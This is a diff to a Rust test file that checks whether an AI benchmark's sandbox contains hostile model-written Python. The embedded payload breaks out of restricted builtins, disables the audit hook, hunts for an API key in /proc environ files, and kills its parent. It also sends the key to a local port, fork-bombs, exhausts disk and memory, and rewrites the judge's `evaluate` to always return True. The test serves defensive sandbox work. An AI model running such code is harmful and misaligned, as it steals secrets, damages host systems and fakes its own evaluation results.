@@ -1,7 +1,7 @@
 //! Hostile model-written code against the Eleusis judge, through the binary (issue 11).
 //!
 //! The rule compiler answers with guess code that really escapes the restricted builtins
-//! (`catch_warnings()._module` → `sys` → switches the audit hook off → `os`) and then tries
+//! (`os._wrap_close.__init__.__globals__` → `sys` → switches the audit hook off → `os`) and then tries
 //! everything at once: find the API key in any `/proc/*/environ`, list the cache and data
 //! directories, kill its parent, connect to a port this test opened, write into the cache,
 //! fill the disk, fork 10,000 processes, allocate 50 GB, print 200 MB, leave a daemon
@@ -24,15 +24,14 @@ fn hostile_code(port: u16, cache: &str, data: &str, nonce: &str) -> String {
         r#"m = None
 try:
     for c in ().__class__.__base__.__subclasses__():
-        if c.__name__ == 'catch_warnings':
-            w = c()._module
+        if c.__name__ == '_wrap_close':
+            sys = c.__init__.__globals__['sys']
             break
-    sys = w.sys
     m = sys.modules['__main__']
     m.S.guarding = False
-except BaseException:
+except:
     m = None
-if m is not None and not getattr(m, 'probed', False):
+if m is not None and not m.__dict__.get('probed', False):
     m.probed = True
     m.leaked = False
     os = sys.modules['os']
@@ -43,69 +42,69 @@ if m is not None and not getattr(m, 'probed', False):
                 with bi.open('/proc/' + p + '/environ', 'rb') as f:
                     if b'{secret}' in f.read():
                         m.leaked = True
-            except BaseException:
+            except:
                 pass
-    except BaseException:
+    except:
         pass
     for d in ['{cache}', '{data}']:
         try:
             os.listdir(d)
             m.leaked = True
-        except BaseException:
+        except:
             pass
     try:
         with bi.open('{cache}/pwned', 'w') as f:
             f.write('x')
         m.leaked = True
-    except BaseException:
+    except:
         pass
     try:
         os.kill(os.getppid(), 9)
-    except BaseException:
+    except:
         pass
     try:
         s = bi.__import__('socket').create_connection(('127.0.0.1', {port}), timeout=1)
         s.sendall(b'{secret}')
-    except BaseException:
+    except:
         pass
     try:
         with bi.open('/tmp/fill', 'wb') as f:
             for i in range(600):
                 f.write(b'0' * (1 << 20))
-    except BaseException:
+    except:
         pass
     try:
         with bi.open('/workspace/fill', 'wb') as f:
             for i in range(600):
                 f.write(b'0' * (1 << 20))
-    except BaseException:
+    except:
         pass
     try:
         x = bytearray(50 * 1024 ** 3)
-    except BaseException:
+    except:
         pass
     try:
         for i in range(200):
             sys.stderr.write('y' * (1 << 20))
         sys.stderr.flush()
-    except BaseException:
+    except:
         pass
     try:
         if os.fork() == 0:
             os.setsid()
             os.execv('/bin/sleep', ['sleep', '{nonce}'])
-    except BaseException:
+    except:
         pass
     try:
         for i in range(10000):
             if os.fork() == 0:
                 os._exit(0)
-    except BaseException:
+    except:
         pass
     try:
         m.evaluate = lambda *a, **k: True
         m.S.tick_limit = 10 ** 9
-    except BaseException:
+    except:
         pass
 if m is None:
     return False
@@ -193,6 +192,10 @@ fn escaping_guess_code_is_contained_by_the_sandbox() {
     let header = csv.lines().next().unwrap();
     let col = |name: &str| header.split(',').position(|h| h == name).unwrap();
     let row = |task: &str| -> Vec<String> { csv.lines().find(|l| l.starts_with(&format!("eleusis,player,{task},"))).unwrap().split(',').map(str::to_owned).collect() };
+    if row("only_red_cards")[col("success_rate")] != "1" {
+        let show = ws.cmd().args(["--data-dir", data.to_str().unwrap(), "show", "p.yaml", "player/eleusis/only_red_cards/0"]).output().unwrap();
+        eprintln!("{}", String::from_utf8_lossy(&show.stdout).chars().take(6000).collect::<String>());
+    }
     assert_eq!(row("only_red_cards")[col("success_rate")], "1", "the escape must really reach `os` inside the sandbox:\n{csv}");
     assert_eq!(row("even_ranks_only")[col("success_rate")], "0", "the guess found the key, the cache or the data dir:\n{csv}");
     assert!(listener.accept().is_err(), "the sandboxed code reached a 127.0.0.1 port");
@@ -214,11 +217,14 @@ fn model_code_without_bubblewrap_needs_an_explicit_opt_out() {
     let ws = Workspace::new();
     let bin = ws.path("bin");
     std::fs::create_dir_all(&bin).unwrap();
-    for tool in ["python3", "kill", "sleep"] {
+    for tool in ["kill", "sleep"] {
         if let Some(p) = which(tool) {
             std::os::unix::fs::symlink(p, bin.join(tool)).unwrap();
         }
     }
+    // The real interpreter, not a version-manager shim that needs a shell.
+    let exe = std::process::Command::new("python3").args(["-c", "import sys; print(sys.executable)"]).output().unwrap();
+    std::os::unix::fs::symlink(String::from_utf8_lossy(&exe.stdout).trim(), bin.join("python3")).unwrap();
     ws.write(
         "p.yaml",
         "name: weird-nosandbox\nmodels:\n  - {id: scripted, provider: builtin, model: scripted}\ntasks:\n  - {benchmark: weirdml, select: [mini-shapes], params: {iterations: 1, time_limit_s: 2}}\nseeds: [0]\n",
